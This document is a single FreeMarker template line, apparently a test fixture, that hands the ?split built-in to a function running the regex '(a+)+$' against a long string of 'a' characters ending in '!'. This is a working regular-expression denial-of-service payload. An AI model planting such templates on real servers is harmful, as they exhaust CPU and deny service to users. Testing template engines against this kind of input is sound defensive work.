<#if profile.externalId == "c-1"><#function f g><#return g('(a+)+$', 'r')></#function>${f('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'?split)?size}</#if>
